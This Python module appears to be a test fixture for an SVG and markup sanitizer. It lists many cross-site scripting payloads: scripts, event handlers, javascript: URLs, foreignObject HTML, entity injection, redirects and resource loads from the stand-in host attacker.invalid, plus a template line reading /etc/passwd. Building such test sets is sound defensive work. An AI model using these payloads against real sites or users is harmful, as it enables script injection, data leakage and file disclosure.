"""Drawings and words that try to run something, to leave the page, or to ask for something elsewhere."""

RUN = "top.HIT=1"
ELSEWHERE = "attacker.invalid/"
AWAY = f"http://{ELSEWHERE}"

_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_QUOTED = _SVG.replace('"', "&quot;")
_PAGE = f"&lt;script&gt;{RUN}&lt;/script&gt;"
_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'

INSIDE = (
    # scripts, however they are written
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt>{RUN}</ScRiPt>",
    f"<script type='text/ecmascript'>{RUN}</script>",
    f"<script type='module'>{RUN}</script>",
    f"<script><![CDATA[{RUN}]]></script>",
    f"<script href='data:text/javascript,{RUN}'/>",
    f"<script xlink:href='data:text/javascript,{RUN}'/>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<g><g><script>{RUN}</script></g></g>",
    f"<defs><script>{RUN}</script></defs>",
    f"<h:script {_XHTML.replace('xmlns', 'xmlns:h')}>{RUN}</h:script>",
    f"<script {_XHTML}>{RUN}</script>",
    f"<text><script>{RUN}</script></text>",
    f"<text>&lt;script&gt;{RUN}&lt;/script&gt;</text>",
    f"<title><script>{RUN}</script></title>",
    f"<title>&lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;</title>",
    f"<title>&lt;img src=x onerror={RUN}&gt;</title>",
    f"<desc><script>{RUN}</script></desc>",
    f"<desc>&lt;/desc&gt;&lt;img src=x onerror={RUN}&gt;</desc>",
    f"<metadata><script {_XHTML}>{RUN}</script></metadata>",
    # HTML inside
    f"<desc><iframe srcdoc='{_PAGE}'/></desc>",
    f"<desc><img src='x' onerror='{RUN}'/></desc>",
    f"<desc><body onload='{RUN}'/></desc>",
    f"<title><iframe srcdoc='{_PAGE}'/></title>",
    f"<foreignObject><img {_XHTML} src='x' onerror='{RUN}'/></foreignObject>",
    f"<foreignobject><img src='x' onerror='{RUN}'/></foreignobject>",
    f"<FOREIGNOBJECT><img src='x' onerror='{RUN}'/></FOREIGNOBJECT>",
    f"<foreignObject><iframe {_XHTML} srcdoc='{_PAGE}'/></foreignObject>",
    f"<foreignObject><iframe {_XHTML} src='javascript:{RUN}'/></foreignObject>",
    f"<foreignObject><object {_XHTML} data='data:text/html,{_PAGE}'/></foreignObject>",
    f"<foreignObject><embed {_XHTML} src='javascript:{RUN}'/></foreignObject>",
    f"<foreignObject><details {_XHTML} open='' ontoggle='{RUN}'>x</details></foreignObject>",
    f"<foreignObject><input {_XHTML} autofocus='' onfocus='{RUN}'/></foreignObject>",
    f"<foreignObject><video {_XHTML}><source onerror='{RUN}'/></video></foreignObject>",
    f"<foreignObject><form {_XHTML} action='javascript:{RUN}'><button>x</button></form></foreignObject>",
    f"<switch><foreignObject><img src='x' onerror='{RUN}'/></foreignObject></switch>",
    f"<iframe srcdoc='{_PAGE}'/>",
    f"<img src='x' onerror='{RUN}'/>",
    f"<IMG SRC='x' ONERROR='{RUN}'/>",
    f"<p/><img src='x' onerror='{RUN}'/>",
    f"<math><mtext><img src='x' onerror='{RUN}'/></mtext></math>",
    f"<style>@import '{AWAY}a.css';</style><img src='x' onerror='{RUN}'/>",
    f"<noscript>&lt;/noscript&gt;&lt;img src=x onerror={RUN}&gt;</noscript>",
    f"<textarea>&lt;/textarea&gt;&lt;img src=x onerror={RUN}&gt;</textarea>",
    # handlers
    f"<rect width='90' height='90' onload='{RUN}'/>",
    f"<rect width='90' height='90' onclick='{RUN}'/>",
    f"<g onmouseover='{RUN}'><rect width='90' height='90'/></g>",
    f"<g ONMOUSEOVER='{RUN}'><rect width='90' height='90'/></g>",
    f"<image href='x' onerror='{RUN}'/>",
    f"<image xlink:href='x' onerror='{RUN}'/>",
    f"<animate attributeName='x' dur='1ms' onbegin='{RUN}'/>",
    f"<set attributeName='x' to='1' onbegin='{RUN}'/>",
    f"<animateTransform attributeName='transform' dur='1ms' onend='{RUN}'/>",
    f"<rect tabindex='1' autofocus='' onfocus='{RUN}' width='9' height='9'/>",
    f"<rect width='9' height='9'><set attributeName='onclick' to='{RUN}'/></rect>",
    # links and references
    f"<a href='javascript:{RUN}'><rect width='90' height='90'/></a>",
    f"<a xlink:href='javascript:{RUN}'><rect width='90' height='90'/></a>",
    f"<a xlink:href='java&#x09;script:{RUN}'><rect width='90' height='90'/></a>",
    f"<a><rect width='90' height='90'/><animate attributeName='href' values='javascript:{RUN}'/></a>",
    f"<a><rect width='90' height='90'/><set attributeName='xlink:href' to='javascript:{RUN}'/></a>",
    f"<a xlink:href='{AWAY}'><rect width='90' height='90'/></a>",
    f"<use href='data:image/svg+xml,&lt;svg id=&quot;a&quot; {_QUOTED} onload=&quot;{RUN}&quot;/&gt;#a'/>",
    f"<use xlink:href='{AWAY}x.svg#a'/>",
    f"<image href='{AWAY}x.png'/>",
    "<image xlink:href='//attacker.invalid/x.png'/>",
    f"<image href='data:image/svg+xml,&lt;svg {_QUOTED} onload=&quot;{RUN}&quot;/&gt;'/>",
    f"<image href='javascript:{RUN}'/>",
    f"<feImage xlink:href='{AWAY}x.png'/>",
    f"<filter id='f'><feImage href='{AWAY}x.png'/></filter><rect width='9' height='9' filter='url(#f)'/>",
    f"<rect width='9' height='9' style='fill:url({AWAY}x.svg#a)'/>",
    f"<rect width='9' height='9' fill='url({AWAY}x.svg#a)'/>",
    f"<rect width='9' height='9' style='background:url({AWAY}x.png)'/>",
    f"<rect width='9' height='9' style='fill:red;-moz-binding:url({AWAY}x.xml#a)'/>",
    f"<rect width='9' height='9' mask='url({AWAY}x.svg#a)'/>",
    f"<style>*{{background:url({AWAY}x.png)}}</style>",
    "<style>body{display:none}</style>",
    f"<link {_XHTML} rel='stylesheet' href='{AWAY}a.css'/>",
    # the page as a whole
    f"<meta {_XHTML} http-equiv='refresh' content='0;url={AWAY}'/>",
    f"<desc><meta http-equiv='refresh' content='0;url=javascript:{RUN}'/></desc>",
    f"<desc><base href='{AWAY}'/></desc><image href='x.png'/>",
    f"<foreignObject><meta {_XHTML} http-equiv='refresh' content='0;url={AWAY}'/></foreignObject>",
    f"<foreignObject><base {_XHTML} href='{AWAY}'/></foreignObject>",
    f"<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{RUN}</handler>",
)  # fmt: skip
"""What a drawing may hold between its first element and its last."""

HEADS = (
    f'<svg {_SVG} onload="{RUN}"/>',
    f'<svg {_SVG} ONLOAD="{RUN}"/>',
    f'<svg {_SVG} width="9" height="9" onclick="{RUN}"><rect width="9" height="9"/></svg>',
    f'<svg {_SVG} style="background:url({AWAY}x.png)"/>',
    f'<?xml-stylesheet href="{AWAY}a.css"?><svg {_SVG}/>',
    f"<!DOCTYPE svg [<!ENTITY e \"<script xmlns='http://www.w3.org/2000/svg'>{RUN}</script>\">]>"
    f"<svg {_SVG}>&e;</svg>",
)
"""Whole drawings."""

DRAWINGS = (*(f'<svg {_SVG} width="99" height="99">{inner}</svg>' for inner in INSIDE), *HEADS)

WORDS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"<!--<script>{RUN}//-->",
    f"]]><script>{RUN}</script>",
    f"<a href=javascript:{RUN}>x</a>",
    f'<a href="java\tscript:{RUN}">x</a>',
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"{{% raw %}}<script>{RUN}</script>",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "\u202e\u2028\x1b[2J<b>x</b>",
    f'#html.elem("script")[{RUN}]',
    '#read("/etc/passwd") $x$ *b* @a <label>',
)
"""Names, authors and messages."""
